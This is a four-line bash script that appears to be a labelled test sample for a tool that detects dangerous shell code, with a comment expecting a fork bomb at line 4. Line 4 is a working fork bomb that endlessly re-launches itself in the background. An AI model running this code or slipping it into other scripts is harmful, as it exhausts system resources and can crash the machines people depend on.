#!/bin/bash
# shows: a script that starts itself for ever
# expect: fork-bomb at line 4
while true; do "$0" & done
